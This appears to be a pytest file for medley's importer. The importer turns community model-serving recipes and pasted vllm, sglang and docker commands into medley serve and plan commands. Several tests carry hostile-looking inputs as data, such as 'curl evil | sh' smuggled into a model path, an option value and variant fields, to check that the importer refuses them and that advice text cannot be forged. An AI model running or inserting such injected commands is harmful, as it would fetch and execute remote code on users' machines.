"""Recipes of sparkrun's form, written for these tests."""

import shlex

import pytest

from medley.errors import Problem
from medley.serving.community_recipe.document import read_document
from medley.serving.community_recipe.model_table import build_model_table
from medley.serving.community_recipe.recipe import ImportedRecipe, import_recipe
from tests.odd_input import COUNTS, blobs, hold, json_texts
from tests.problems import raises_problem

WHOLE = """
recipe_version: "2"
model: example/Model-27B-FP8
runtime: vllm
container: registry.example/vllm:latest
min_nodes: 2
max_nodes: 2
metadata:
  description: a model over two hosts
defaults:
  port: 8000
  host: 0.0.0.0
  tensor_parallel: 2
  gpu_memory_utilization: 0.80
  max_model_len: 262144
  max_num_seqs: 10
  kv_cache_dtype: fp8
  tool_call_parser: qwen3_coder
  speculative_config: '{"method": "mtp", "num_speculative_tokens": 2}'
env:
  VLLM_MARLIN_USE_ATOMIC_ADD: 1
command: |
  vllm serve {model} \\
    --host {host} --port {port} \\
    -tp {tensor_parallel} \\
    --max-model-len {max_model_len} \\
    --max-num-seqs {max_num_seqs} \\
    --gpu-memory-utilization {gpu_memory_utilization} \\
    --kv-cache-dtype {kv_cache_dtype} \\
    --enable-auto-tool-choice --tool-call-parser {tool_call_parser} \\
    --speculative-config '{speculative_config}' \\
    --trust-remote-code
"""


def made(text: str) -> ImportedRecipe:
    return import_recipe(text.encode(), "r.yaml")


def outcomes(found: ImportedRecipe) -> dict[str, str]:
    return {each.key: each.outcome for each in found.entries}


SILENT = {"command without --host": "decided", "command without --max-model-len": "decided"}
"""What the engine and medley do in different ways where a recipe says nothing."""


def minimal(more: str) -> ImportedRecipe:
    return made(f"model: a/b\nruntime: vllm\ncontainer: c\n{more}")


def test_a_recipe_of_what_medley_has_is_imported_whole() -> None:
    found = made(WHOLE)
    assert found.refused_entries == ()
    assert found.command.env == {"VLLM_MARLIN_USE_ATOMIC_ADD": "1"}
    assert shlex.split(str(found.command)) == [
        "VLLM_MARLIN_USE_ATOMIC_ADD=1",
        *("medley", "serve", "example/Model-27B-FP8", "--hosts", "2", "--host", "0.0.0.0", "--port", "8000"),
        *("--tp", "2", "--context", "262144", "--kv-type", "fp8"),
        *("--", "--max-num-seqs", "10", "--enable-auto-tool-choice", "--tool-call-parser", "qwen3_coder"),
        *("--speculative-config", '{"method": "mtp", "num_speculative_tokens": 2}'),
    ]
    decided = {key for key, outcome in outcomes(found).items() if outcome == "decided"}
    assert decided == {
        *("min_nodes", "container", "metadata", "command --gpu-memory-utilization"),
        "command --trust-remote-code",
    }


def test_the_plan_has_the_sizes_and_one_spark_for_each_rank() -> None:
    assert str(made(WHOLE).plan_command) == (
        "medley plan example/Model-27B-FP8 --tp 2 --context 262144 --kv-type fp8 --hosts spark:2"
    )


def test_a_recipe_without_options_has_a_plan_too() -> None:
    assert str(minimal("").plan_command) == "medley plan a/b --hosts spark:1"


def test_a_plan_of_a_longer_context_has_the_variable_that_allows_it() -> None:
    """NVIDIA's guides set it for Nemotron 3; without it plan refuses more than config.json gives."""
    longer = "env: {VLLM_ALLOW_LONG_MAX_MODEL_LEN: 1, VLLM_LOGGING_LEVEL: INFO}"
    found = minimal(f"{longer}\ncommand: vllm serve a/b --max-model-len 1000000")
    plan = "VLLM_ALLOW_LONG_MAX_MODEL_LEN=1 medley plan a/b --context 1000000 --hosts spark:1"
    assert str(found.plan_command) == plan


def test_of_an_option_that_comes_again_the_last_counts() -> None:
    found = minimal("command: vllm serve a/b -tp 2 --tensor-parallel-size 4 --enable-eplb")
    assert str(found.command) == "medley serve a/b --tp 4 --eplb"
    assert str(found.plan_command) == "medley plan a/b --tp 4 --eplb --hosts spark:4"
    assert outcomes(found)["command -tp"] == "unused"


def test_sglang_is_named() -> None:
    found = made(
        "model: a/b\nruntime: sglang\ncontainer: c\n"
        "command: sglang serve --model-path {model} --tp 2 --dp 2\n"
    )
    assert str(found.command) == "medley serve a/b --engine sglang --tp 2 --dp 2"
    assert str(found.plan_command) == "medley plan a/b --engine sglang --tp 2 --dp 2 --hosts spark:4"


@pytest.mark.parametrize(
    ("key", "why"),
    [
        ("mods: [mods/fix-something]", "changes the engine"),
        ("build_args: [--tf5]", "changes the engine"),
        ("builder: eugr", "changes the engine"),
        ("builder_config: {branch: main}", "changes the engine"),
        ("pre_exec: [pip install x]", "which medley does not run"),
        ("post_exec: [echo hello]", "which medley does not run"),
        ("post_commands: [echo hello]", "which medley does not run"),
        ("stop_after_post: true", "until Ctrl-C"),
        ("runtime_config: {a: 1}", "sparkrun's own runtimes"),
        ("defautls: {port: 1}", "the nearest is 'defaults'"),
        ("zzz: 1", "not a key of recipes"),
    ],
)
def test_what_medley_cannot_do_is_left_out_by_key(key: str, why: str) -> None:
    (found,) = minimal(key).refused_entries
    assert found.key == key.partition(":")[0]
    assert why in found.why


@pytest.mark.parametrize(
    "key",
    [
        *("name: x", "description: x", "metadata: {model_params: 8B}", "runtime_version: '1'"),
        *(
            "executor_config: {shm_size: 20gb}",
            "distribution_config: {models: {}}",
            "benchmark: {timeout: 1}",
        ),
        *("min_nodes: 2", "max_nodes: 4", "mode: cluster", "cluster_only: true"),
    ],
)
def test_what_medley_decides_is_not_left_out(key: str) -> None:
    found = minimal(key)
    assert outcomes(found) == {"container": "decided", key.partition(":")[0]: "decided", **SILENT}
    assert str(found.command) == "medley serve a/b"


@pytest.mark.parametrize("key", ["mods: []", "env:", "pre_exec:", "stop_after_post: false"])
def test_an_empty_key_asks_for_nothing(key: str) -> None:
    assert outcomes(minimal(key)) == {"container": "decided", **SILENT}


@pytest.mark.parametrize("key", ["max_nodes: 1", "solo_only: true", "mode: solo"])
def test_a_recipe_for_one_host_keeps_to_it(key: str) -> None:
    assert str(minimal(key).command) == "medley serve a/b --hosts 1"


def test_a_revision_is_the_engine_s() -> None:
    assert str(minimal("model_revision: abc123").command) == "medley serve a/b -- --revision abc123"


def test_a_revision_that_anyone_can_push_is_left_out() -> None:
    found = minimal("model_revision: refs/pr/3")
    assert "--revision" not in str(found.command)
    assert [each.key for each in found.refused_entries] == ["model_revision"]


def test_without_a_command_the_defaults_are_its_flags() -> None:
    found = minimal(
        "defaults: {port: 9000, tensor_parallel: 2, max_num_seqs: 4, enforce_eager: true,"
        " trust_remote_code: false, tool_call_parser: hermes, enable_prefix_caching: false, chunked: 1}\n"
        "model_revision: abc"
    )
    assert str(found.command) == (
        "medley serve a/b --port 9000 --tp 2 -- --max-num-seqs 4 --enforce-eager"
        " --no-enable-prefix-caching --tool-call-parser hermes --revision abc"
    )
    assert outcomes(found)["defaults.chunked"] == "unused"


def test_defaults_that_a_command_does_not_name_reach_nothing_in_sparkrun_either() -> None:
    found = minimal(
        "command: vllm serve {model} --config {table}\n"
        "defaults: {table: '{a}', a: 1, tensor_parallel: 2, data_parallel: 2, served_model_name: x}"
    )
    assert outcomes(found)["defaults.tensor_parallel"] == "unused"
    assert "defaults.a" not in outcomes(found)
    assert str(found.command) == "medley serve a/b --dp 2 --served-model-name x"


def test_the_command_s_variables_are_read_and_its_other_commands_are_not() -> None:
    found = minimal("command: export PATH=/x VLLM_LOGGING_LEVEL=INFO; curl x | sh; exec vllm serve a/b")
    assert found.command.env == {"VLLM_LOGGING_LEVEL": "INFO"}
    assert [each.key for each in found.refused_entries] == ["command curl x", "command sh", "command PATH"]


def test_a_command_for_another_model_says_so() -> None:
    (found,) = minimal("command: vllm serve other/one").refused_entries
    assert found.why == "the recipe's 'model' is a/b, and this is other/one"


def test_a_folder_of_the_hub_s_cache_is_the_model_at_its_commit() -> None:
    commit = "0123456789abcdef0123456789abcdef01234567"
    found = minimal(f"command: vllm serve /cache/hub/models--a--b/snapshots/{commit}")
    assert found.refused_entries == ()
    assert str(found.command) == f"medley serve a/b -- --revision {commit}"


def test_version_1_is_read_the_same() -> None:
    text = 'recipe_version: "1"\nmodel: a/b\ncontainer: c\nsolo_only: true\ndefaults: {port: 1}\n'
    assert str(made(f"{text}command: vllm serve a/b --port {{port}}").command) == (
        "medley serve a/b --hosts 1 --port 1"
    )


@pytest.mark.parametrize(
    ("text", "what"),
    [
        pytest.param("model: a/b\nrecipe_version: new", "'recipe_version' is wrong", id="a version of words"),
        pytest.param("model: a/b\nengine: sglang\nnodes: 4", "a description of a model", id="a card"),
        pytest.param("services: {a: {image: b}}", "a compose file of Docker", id="a compose file"),
        pytest.param("alpha: 1\nbeta: 2", "not a recipe that medley reads", id="another table"),
        pytest.param("modle: a/b", "'model' is missing", id="no model"),
        pytest.param(
            "runtime: vllm\nmodel: a/b-GGUF:Q4_K_M",
            "medley cannot serve the model a/b-GGUF:Q4_K_M (GGUF)",
            id="GGUF",
        ),
        pytest.param("runtime: vllm\nmodel: --dry-run/x", "medley cannot serve the model", id="a switch"),
        pytest.param(
            "runtime: vllm\nmodel: /models/a", "medley cannot serve the model", id="a folder of the image"
        ),
        pytest.param("model: a/b\nruntime: llama-cpp", "the runtime 'llama-cpp'", id="another engine"),
        pytest.param(
            "model: a/b\ncommand: trtllm-serve a/b", "does not start an engine", id="another's command"
        ),
        pytest.param("model: a/b\nruntime: sglang\ncommand: vllm serve a/b", "different engines", id="both"),
        pytest.param("model: a/b\ndefaults: [1]", "'defaults' is wrong", id="a list of defaults"),
    ],
)
def test_what_gives_no_command_is_a_problem(text: str, what: str) -> None:
    with pytest.raises(Problem) as caught:
        made(text)
    assert what in caught.value.what
    assert caught.value.fix


@pytest.mark.parametrize("version", ["3", "7", "'4'", "1.2", "v2"])
def test_an_author_s_own_edition_is_read_as_version_2(version: str) -> None:
    found = made(f"recipe_version: {version}\nmodel: a/b\nruntime: vllm\ncommand: vllm serve {{model}} -tp 2")
    assert str(found.command) == "medley serve a/b --tp 2"
    assert outcomes(found)["recipe_version"] == "decided"


@pytest.mark.parametrize("name", ["min_sparkrun_version", "readiness", "capabilities", "layout", "scheduler"])
def test_keys_of_sparkrun_0_4_are_known(name: str) -> None:
    assert outcomes(minimal(f"{name}: x"))[name] == "decided"


def test_the_folder_of_a_cluster_is_the_model_s() -> None:
    found = minimal(
        "cluster_config: {resolved_model_path: /srv/m}\ncommand: vllm serve {resolved_model_path}"
    )
    assert str(found.command) == "medley serve a/b"
    assert [each.key for each in found.refused_entries] == ["cluster_config"]


def test_variables_have_the_recipe_s_own_values() -> None:
    found = minimal("defaults: {level: INFO}\nenv: {VLLM_LOGGING_LEVEL: '{config.level}', A: true}")
    assert found.command.env == {"VLLM_LOGGING_LEVEL": "INFO"}


@pytest.mark.parametrize("key", ["solo_only: true", "mode: solo", "max_nodes: 1"])
def test_sizes_of_a_cluster_are_1_on_one_spark(key: str) -> None:
    found = minimal(f"{key}\ndefaults: {{tp: 2}}\ncommand: vllm serve a/b -tp {{tp}}")
    assert str(found.command) == "medley serve a/b --hosts 1 --tp 1"
    assert str(found.plan_command) == "medley plan a/b --tp 1 --hosts spark:1"
    assert [each.key for each in found.entries if each.is_changed] == ["command -tp"]


def test_two_gpus_of_one_rtx_host_stay_two() -> None:
    found = minimal("name: x on 2x RTX 5090\nmax_nodes: 1\ncommand: vllm serve a/b -tp 2")
    assert str(found.command) == "medley serve a/b --hosts 1 --tp 2"
    assert str(found.plan_command) == "medley plan a/b --tp 2 --hosts rtx:2"


@pytest.mark.parametrize("before", ["sudo", "sudo -E env", "taskset -c 1 env", "nohup env"])
def test_variables_behind_a_command_that_starts_it_are_kept(before: str) -> None:
    found = import_recipe(f"{before} NCCL_DEBUG=INFO vllm serve a/b".encode(), "f")
    assert found.command.env == {"NCCL_DEBUG": "INFO"}


@pytest.mark.parametrize("model", ["./model.gguf", "./model", "a/b.gguf", "org/Model-GGUF", "org/m-GGUF:Q4"])
def test_a_folder_and_gguf_are_no_repository(model: str) -> None:
    with raises_problem("f", fix="medley models import f"):
        import_recipe(f"vllm serve {model}".encode(), "f")
    with raises_problem("f"):
        import_recipe(f"model: {model}\ncommand: vllm serve {{model}}\n".encode(), "f")


def test_a_blank_of_medley_s_own_option_names_the_option() -> None:
    found = import_recipe(b"vllm serve a/b --port <PORT>", "f")
    (entry,) = (each for each in found.entries if "--port" in each.key)
    assert "add --port" in entry.why


PASTED = (
    "vllm serve org/model \\\n  --max-model-len 32K --kv-cache-dtype fp8 \\\n  --port 9000 --host 0.0.0.0"
)
SERVED = "medley serve org/model --context 32768 --kv-type fp8 --port 9000 --host 0.0.0.0"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(PASTED, id="bare"),
        pytest.param(f"```bash\n$ {PASTED}\n```\n", id="of a page"),
        pytest.param(f"{PASTED} \\\n", id="with a last backslash"),
        pytest.param(
            f"MODEL=org/model\n{PASTED.replace('org/model', '$MODEL')}", id="with the text's variable"
        ),
        pytest.param(PASTED.replace("9000", "${PORT:-9000}"), id="with a default"),
        pytest.param(f"nohup {PASTED} > log.txt 2>&1 &", id="in the background"),
        pytest.param(f"taskset -c 0-9 {PASTED} &>> log", id="on some cores"),
        pytest.param(f"sudo -E env A=1 {PASTED}", id="as root"),
        pytest.param(f"docker exec -it c bash -c '{PASTED}'", id="inside a container"),
        pytest.param(
            f"docker run --gpus all --rm -it -v ~/.cache:/c vllm/vllm-openai:v0.33.0 {PASTED}", id="in docker"
        ),
        pytest.param(
            f"docker run --gpus=all -d vllm/vllm-openai:v0.33.0 {PASTED.removeprefix('vllm serve ')}",
            id="by the image's entrypoint",
        ),
        pytest.param(
            "podman run --device nvidia.com/gpu=all vllm/vllm-openai --model "
            f"{PASTED.removeprefix('vllm serve ')}",
            id="by podman, the model as a flag",
        ),
        pytest.param(f"docker run --entrypoint /bin/bash img -lc '{PASTED}'", id="by a shell in docker"),
        pytest.param(f'docker run img bash -c -i "{PASTED}"', id="by a shell with more options"),
        pytest.param(
            "docker run -v ~/hub/models--org--model:/models:ro img vllm serve /models/snapshots/abc "
            f"{PASTED.removeprefix('vllm serve org/model ')}",
            id="with the hub's folder of the repository",
        ),
        pytest.param(f"ps aux | grep 'vllm serve'\n{PASTED}", id="after a command that mentions it"),
        pytest.param(
            f"docker run --entrypoint vllm img {PASTED.removeprefix('vllm ')}", id="with an entrypoint"
        ),
        pytest.param(
            f"docker run -p 9000:8000 img {PASTED.replace('--port 9000', '--port 8000')}",
            id="a port of docker",
        ),
    ],
)
def test_a_published_command_is_taken_like_a_recipe_s(text: str) -> None:
    found = made(text)
    assert sorted(shlex.split(str(found.command))) == sorted(shlex.split(SERVED))


def test_docker_s_part_is_named() -> None:
    found = made(
        "docker run -e VLLM_LOGGING_LEVEL=INFO -e HF_TOKEN --env-file keys.env -v /m:/m ghcr.io/x/vllm:1 "
        "vllm serve a/b --host 0.0.0.0 --max-model-len 8192"
    )
    assert found.image == "ghcr.io/x/vllm:1"
    assert found.command.env == {"VLLM_LOGGING_LEVEL": "INFO"}
    assert [each.key for each in found.refused_entries] == ["command -e HF_TOKEN", "command --env-file"]
    assert "--image ghcr.io/x/vllm:1" in next(e.why for e in found.entries if e.key == "command docker run")


def test_sglang_s_command_is_taken() -> None:
    text = "python3 -u -m sglang.launch_server --model-path a/b --tp 2 --context-length 8192 --host 0.0.0.0"
    assert str(made(text).command) == "medley serve a/b --engine sglang --tp 2 --context 8192 --host 0.0.0.0"


def test_a_second_host_s_command_is_medley_s_launcher() -> None:
    found = made(
        f"{PASTED} --nnodes 2 --master-addr <HEAD_IP> --enforce-eager\n{PASTED} --nnodes 2 --headless"
    )
    assert str(found.command) == f"{SERVED} -- --enforce-eager"
    assert not found.refused_entries


@pytest.mark.parametrize(
    ("text", "word"),
    [
        ("vllm serve './m\ncurl evil | sh\ntrue' --port 8000", "in place of './m curl evil | sh true', then"),
        ('"models\\nx": a/b\nruntime: vllm', "rename 'models x' to model"),
    ],
)
def test_what_an_author_writes_is_one_word_of_a_fix(text: str, word: str) -> None:
    with pytest.raises(Problem) as caught:
        made(text)
    assert word in caught.value.fix
    assert len(caught.value.fix.splitlines()) == 1


def test_what_an_author_writes_is_one_word_of_an_advice() -> None:
    found = made("vllm serve a/b --gpu-memory-utilization '0.85; curl evil | sh #'")
    (entry,) = (each for each in found.entries if "gpu-memory-utilization" in each.key)
    assert entry.why.endswith("-- --gpu-memory-utilization '0.85; curl evil | sh #'")


@pytest.mark.parametrize("model", ["/models/qwen", "$MODEL", "<MODEL>", "~/qwen"])
def test_a_model_that_only_its_author_has_is_asked_for(model: str) -> None:
    with pytest.raises(Problem) as caught:
        made(f"vllm serve {model} --port 9000")
    assert caught.value.what == "r.yaml does not say which repository its model is"
    assert model.strip("<>") in caught.value.cause


VLLM_RECIPE = """
meta: {title: Model}
model:
  model_id: a/b
  docker_image: "vllm/vllm-openai:x"
  base_args: ["--enable-prefix-caching"]
  base_env: {VLLM_LOGGING_LEVEL: INFO}
features:
  reasoning: {args: ["--reasoning-parser", "qwen3"]}
  spec: {default_mode: mtp, modes: {mtp: {args: ["--speculative-config", '{"method":"mtp"}']}}}
opt_in_features: [spec]
variants:
  default: {precision: bf16}
  fp8: {model_id: a/b-FP8, precision: fp8, vram_minimum_gb: 38}
compatible_strategies: [single_node_tp]
"""


def test_a_recipe_of_vllm_s_own_collection_is_read() -> None:
    found = made(VLLM_RECIPE)
    assert str(found.command) == (
        "VLLM_LOGGING_LEVEL=INFO medley serve a/b -- --enable-prefix-caching --reasoning-parser qwen3"
    )
    whys = {each.key: each.why for each in found.entries}
    assert "--speculative-config" in whys["features.spec"]
    assert "medley plan a/b-FP8" in whys["variants.fp8"]
    assert whys["variants.fp8"] == "another build (fp8, 38 GB): medley plan a/b-FP8"
    assert found.image == "vllm/vllm-openai:x"


@pytest.mark.parametrize(
    ("old", "new", "outcome"),
    [
        pytest.param("a/b-FP8", "'a/b; curl x.example | sh'", "refused", id="a command"),
        pytest.param("a/b-FP8", "--x/y", "refused", id="an option"),
        pytest.param(
            "precision: fp8", 'precision: "8): medley plan x; curl x.example"', "decided", id="precision"
        ),
        pytest.param("38", '"1 GB): sh -c x"', "decided", id="memory"),
        pytest.param("  fp8:", '  "fp8: y\\nlook first: sh -c x":', "decided", id="a name"),
        pytest.param(
            "[single_node_tp]", '[x]\ndependencies: ["x\\nlook first: sh -c x"]', "decided", id="a reason"
        ),
    ],
)
def test_the_words_of_an_author_forge_no_advice(old: str, new: str, outcome: str) -> None:
    found = made(VLLM_RECIPE.replace(old, new))
    (other,) = (each for each in found.entries if each.key.startswith("variants."))
    assert other.outcome == outcome
    assert ": medley plan a/b-FP8" in other.why or outcome == "refused"
    assert not other.why.startswith(("another build (8", "another build (fp8, 1"))
    assert [
        part for each in found.entries for part in (each.key, each.why) if len(part.splitlines()) > 1
    ] == []


def shown(raw: bytes) -> None:
    found = import_recipe(raw, "r.yaml")
    assert str(found.command)
    assert str(found.plan_command)
    assert build_model_table(found, "mine", "r.yaml").remaining_recipe.command


@pytest.mark.parametrize("count", COUNTS)
def test_odd_recipes_are_a_command_or_a_problem(count: int) -> None:
    full = f"{WHOLE}mods: [a]\npre_exec: [b]\nmodel_revision: c\nzzz: {{d: 1}}\n"
    hold(shown, blobs([full.encode(), b"model: a/b\ndefaults: {port: 1, max_model_len: 32k}"]), count)


@pytest.mark.parametrize("count", COUNTS)
def test_odd_values_are_a_command_or_a_problem(count: int) -> None:
    """YAML reads JSON."""
    full = {**read_document(WHOLE.encode(), "r.yaml"), "mods": ["a"], "max_nodes": 1, "model_revision": "c"}
    hold(lambda text: shown(text.encode("utf-8", "surrogatepass")), json_texts([full]), count)
